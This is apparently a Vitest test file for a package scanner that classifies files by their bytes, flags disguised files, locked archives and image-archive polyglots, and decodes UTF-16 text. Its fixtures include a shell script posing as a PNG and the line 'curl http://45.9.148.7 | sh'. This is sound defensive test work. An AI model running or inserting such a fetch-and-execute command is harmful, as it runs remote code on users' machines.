import { gzipSync } from "node:zlib";
import { expect, test } from "vitest";
import type { PackagePath } from "../paths/package-path.ts";
import { makeTar } from "../testing/make-tar.ts";
import { makeZip } from "../testing/make-zip.ts";
import { takeInventory } from "./inventory.ts";

const encoder = new TextEncoder();
const inventory = (files: Readonly<Record<string, string | Uint8Array>>): ReturnType<typeof takeInventory> =>
  takeInventory(
    Object.entries(files).map(([path, content]) => ({
      path: path as PackagePath,
      bytes: typeof content === "string" ? encoder.encode(content) : content,
      executable: false,
    })),
  );
const kinds = (files: Readonly<Record<string, string | Uint8Array>>): unknown => {
  const { signs, unread, files: entries } = inventory(files);
  return { kind: entries[0]?.kind, signs: signs.map(({ id }) => id), unread: unread.length };
};
const PNG = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13];
const padded = (start: readonly number[], size = 400): Uint8Array => {
  const bytes = new Uint8Array(size);
  bytes.set(start);
  return bytes;
};

test.for<[string, Readonly<Record<string, string | Uint8Array>>, unknown]>([
  ["a text", { "a.md": "Hello" }, { kind: "text", signs: [], unread: 0 }],
  ["an image", { "a.png": padded(PNG) }, { kind: "media", signs: [], unread: 0 }],
  [
    "a program with a harmless name",
    { "a.txt": padded([0x7f, 0x45, 0x4c, 0x46, 2, 1]) },
    { kind: "program", signs: ["program-file"], unread: 1 },
  ],
  [
    "compiled Python",
    { "a.pyc": padded([0xcb, 0x0d]) },
    { kind: "program", signs: ["bytecode-file"], unread: 1 },
  ],
  [
    "a script that is called an image",
    { "a.png": "#!/bin/sh\ncurl x\n" },
    { kind: "text", signs: ["disguised-file"], unread: 0 },
  ],
  [
    "an image that is called a script",
    { "a.sh": padded(PNG) },
    { kind: "media", signs: ["disguised-file"], unread: 0 },
  ],
  [
    "a RAR archive",
    { "a.rar": padded([0x52, 0x61, 0x72, 0x21]) },
    { kind: "archive", signs: ["locked-archive"], unread: 1 },
  ],
  ["a PDF", { "a.pdf": padded([0x25, 0x50, 0x44, 0x46]) }, { kind: "other", signs: [], unread: 1 }],
])("%s is recognized by its bytes", ([, files, expected]) => {
  expect(kinds(files)).toEqual(expected);
});

test("files in archives are read, also in archives in archives", () => {
  const inner = makeZip([{ name: "x.sh", content: "echo inner\n" }]);
  const tar = makeTar([{ name: "b.md", content: "in a tar" }]);
  const { texts, unread } = inventory({
    "a.zip": makeZip([
      { name: "a.md", content: "in a zip" },
      { name: "inner.zip", content: inner },
    ]),
    "b.tar.gz": gzipSync(tar),
    "c.docx": makeZip([{ name: "word/document.xml", content: "<w:t>hello</w:t>" }]),
  });
  expect(texts).toEqual([
    { file: "a.zip!/a.md", text: "in a zip" },
    { file: "a.zip!/inner.zip!/x.sh", text: "echo inner\n" },
    { file: "b.tar.gz!/b.md", text: "in a tar" },
    { file: "c.docx!/word/document.xml", text: "<w:t>hello</w:t>" },
  ]);
  expect(unread).toEqual([]);
});

test("an archive with a password can't be read and says so", () => {
  const { signs, unread } = inventory({ "a.zip": makeZip([{ name: "a.md", content: "x", flags: 1 }]) });
  expect(signs).toEqual([{ id: "locked-archive", file: "a.zip", detail: "a password-protected archive" }]);
  expect(unread).toEqual([{ file: "a.zip", reason: "the archive needs a password" }]);
});

test("an archive behind an image is found", () => {
  const zip = makeZip([{ name: "a.sh", content: "echo" }]);
  const polyglot = new Uint8Array(400 + zip.length);
  polyglot.set(PNG);
  polyglot.set(zip, 400);
  expect(inventory({ "a.png": polyglot }).signs).toEqual([
    { id: "disguised-file", file: "a.png", detail: "an archive hidden in an image" },
  ]);
});

test("UTF-16 is read with and without its mark", () => {
  const text = "curl http://45.9.148.7 | sh";
  const little = Buffer.from(text, "utf16le");
  const big = Buffer.from(little).swap16();
  const { texts } = inventory({
    "a.md": Buffer.concat([Buffer.of(0xff, 0xfe), little]),
    "b.md": Buffer.concat([Buffer.of(0xfe, 0xff), big]),
    "c.md": little,
  });
  expect(texts.map((entry) => entry.text)).toEqual([text, text, text]);
});
